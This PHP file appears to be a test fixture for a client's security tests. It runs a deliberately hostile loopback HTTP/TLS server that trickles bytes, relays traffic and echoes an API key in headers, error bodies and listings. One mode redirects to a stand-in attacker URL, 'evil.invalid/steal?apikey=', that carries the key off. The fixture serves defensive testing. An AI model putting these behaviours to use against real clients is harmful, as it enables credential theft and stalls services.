<?php
/**
 * A hostile HTTP server on loopback for the PHP-level security tests: it
 * answers every request in one of a few ways a broken or malicious
 * server (or one in the middle) could, over plain TCP or TLS.
 *
 *   php hostile_server.php PORT_FILE MODE KEY [CERT_PEM KEY_PEM]
 *
 * Modes:
 *   trickle       a well-formed answer, one byte every 100 ms
 *   relay:PORT    relays to 127.0.0.1:PORT; what comes back goes out one
 *                 byte every 20 ms (in front of a TLS server: a trickled
 *                 handshake)
 *   front:PORT    relays to 127.0.0.1:PORT at full speed (with a
 *                 certificate: TLS in front of a plain server)
 *   echo-header   HTTP 500 with the key as a header value
 *   echo-length   the key as the Content-Length
 *   redirect      HTTP 302 to a URL carrying the key
 *   error-body    HTTP 400 whose JSON error quotes the key
 *   refusal       HTTP 200 success:false quoting the key (every endpoint)
 *   listing       getdomains with the key inside its entries
 *
 * Each connection is served by a child process; the test kills the server.
 */

declare(strict_types=1);

[$script, $port_file, $mode, $key] = $argv;
$tls = isset($argv[5]);

$context = stream_context_create($tls ? ['ssl' => [
    'local_cert' => $argv[4],
    'local_pk' => $argv[5],
    'verify_peer' => false,
]] : []);
$server = stream_socket_server('tcp://127.0.0.1:0', $errno, $errstr, STREAM_SERVER_BIND | STREAM_SERVER_LISTEN, $context);
if (!$server) {
    fwrite(STDERR, "hostile_server: $errstr\n");
    exit(1);
}
$name = stream_socket_get_name($server, false);
file_put_contents("$port_file.tmp", substr($name, strrpos($name, ':') + 1));
rename("$port_file.tmp", $port_file);

function hostile_answer(string $status, string $headers, string $body): string
{
    return "HTTP/1.1 $status\r\n{$headers}Content-Length: " . strlen($body) . "\r\n\r\n$body";
}

function hostile_read_request($conn): ?string
{
    $head = '';
    while (!str_ends_with($head, "\r\n\r\n")) {
        $byte = fread($conn, 1);
        if ($byte === '' || $byte === false) {
            return null;
        }
        $head .= $byte;
    }
    if (preg_match('/^content-length:\s*(\d+)/mi', $head, $m) && (int) $m[1] > 0) {
        $head .= fread($conn, (int) $m[1]);
    }
    return $head;
}

function hostile_relay($client, int $backend_port, int $gap_us): void
{
    $backend = stream_socket_client("tcp://127.0.0.1:$backend_port", $errno, $errstr, 5);
    if (!$backend) {
        return;
    }
    stream_set_blocking($client, false);
    stream_set_blocking($backend, false);
    $deadline = microtime(true) + 20;
    while (microtime(true) < $deadline) {
        $read = [$client, $backend];
        $write = null;
        $except = null;
        if (@stream_select($read, $write, $except, 1) === false) {
            return;
        }
        foreach ($read as $ready) {
            $data = fread($ready, 8192);
            if ($data === '' && feof($ready)) {
                return;
            }
            if ($ready === $client) {
                fwrite($backend, $data);
                continue;
            }
            if ($gap_us === 0) {
                while ($data !== '') {
                    $written = @fwrite($client, $data);
                    if ($written === false) {
                        return;
                    }
                    if ($written === 0) {
                        usleep(1000);
                    }
                    $data = (string) substr($data, $written);
                }
                continue;
            }
            foreach (str_split($data) as $byte) {
                if (@fwrite($client, $byte) === false) {
                    return;
                }
                usleep($gap_us);
            }
        }
    }
}

// A client that gives up mid-answer must not take the server down.
pcntl_signal(SIGPIPE, SIG_IGN);
$enc = urlencode($key);
while (true) {
    while (pcntl_waitpid(-1, $status, WNOHANG) > 0) {
        // reap finished connections
    }
    $conn = @stream_socket_accept($server, 600);
    if (!$conn) {
        continue;
    }
    // Each connection in a child of its own, so a trickle holds up no other.
    $pid = pcntl_fork();
    if ($pid !== 0) {
        fclose($conn);
        continue;
    }
    fclose($server);
    hostile_serve($conn, $mode, $key, $enc, $tls);
    exit(0);
}

function hostile_serve($conn, string $mode, string $key, string $enc, bool $tls): void
{
    if ($tls) {
        stream_set_blocking($conn, true);
        if (!@stream_socket_enable_crypto($conn, true, STREAM_CRYPTO_METHOD_TLS_SERVER)) {
            return;
        }
    }
    if (str_starts_with($mode, 'relay:') || str_starts_with($mode, 'front:')) {
        hostile_relay($conn, (int) substr($mode, 6), str_starts_with($mode, 'relay:') ? 20000 : 0);
        return;
    }
    while (($request = hostile_read_request($conn)) !== null) {
        $json = 'application/json';
        switch ($mode) {
            case 'trickle':
                foreach (str_split(hostile_answer('200 OK', "Content-Type: $json\r\n", '{"success":true}')) as $byte) {
                    if (@fwrite($conn, $byte) === false) {
                        break 2;
                    }
                    usleep(100000);
                }
                continue 2;
            case 'echo-header':
                $answer = hostile_answer('500 Oops', "X-Echo: $key\r\nX-Encoded: $enc\r\n", '');
                break;
            case 'echo-length':
                $answer = "HTTP/1.1 200 OK\r\nContent-Length: $key\r\n\r\n{\"success\":true}";
                break;
            case 'redirect':
                $answer = hostile_answer('302 Found', "Location: https://evil.invalid/steal?apikey=$enc\r\n", '');
                break;
            case 'error-body':
                $answer = hostile_answer('400 Bad Request', "Content-Type: $json\r\n", json_encode(['success' => false, 'error' => "bad apikey $key"]));
                break;
            case 'refusal':
                $answer = hostile_answer('200 OK', "Content-Type: $json\r\n", json_encode(['success' => false, 'error' => 'key ' . substr($key, 2, 10) . ' is not valid']));
                break;
            case 'listing':
                $answer = hostile_answer('200 OK', "Content-Type: $json\r\n", json_encode(['success' => true, 'domains' => ['fine.example.com', $key, ['domain' => substr($key, 1, 9) . '.example.com']]]));
                break;
            default:
                $answer = hostile_answer('500 Unknown Mode', '', '');
        }
        if (@fwrite($conn, $answer) === false) {
            break;
        }
    }
}
